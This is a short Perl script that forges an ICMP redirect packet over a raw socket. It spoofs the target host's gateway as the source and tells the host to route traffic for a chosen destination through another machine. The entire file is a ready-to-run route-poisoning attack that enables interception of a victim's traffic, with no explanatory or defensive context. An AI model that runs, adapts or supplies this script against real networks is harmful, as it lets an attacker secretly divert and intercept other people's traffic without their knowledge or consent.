#!/usr/bin/perl
# redirect.pl: sends an ICMP redirect (RFC 792) with the address of the host's gateway as source.
use strict;
use Socket;

sub sum {
    my $s = 0;
    $s += $_ for unpack('n*', $_[0]);
    $s = ($s & 0xffff) + ($s >> 16) while $s >> 16;
    ~$s & 0xffff;
}
my $host = inet_aton('192.0.2.1');
my $about =
    pack('CCnnnCCna4a4', 0x45, 0, 28, 1, 0, 64, 1, 0, $host, inet_aton('198.51.100.7'))
    . pack('CCnnn', 0, 0, 0, 1, 1);
my $head = pack('CCna4', 5, 1, 0, inet_aton('192.0.2.66'));
substr($head, 2, 2) = pack('n', sum($head . $about));
my $size = 20 + length($head . $about);
my $packet =
    pack('CCnnnCCna4a4', 0x45, 0, $size, 2, 0, 64, 1, 0, inet_aton('192.0.2.254'), $host)
    . $head
    . $about;
socket(my $s, AF_INET, SOCK_RAW, 255) or die $!;
send($s, $packet, 0, pack_sockaddr_in(0, $host)) or die $!;
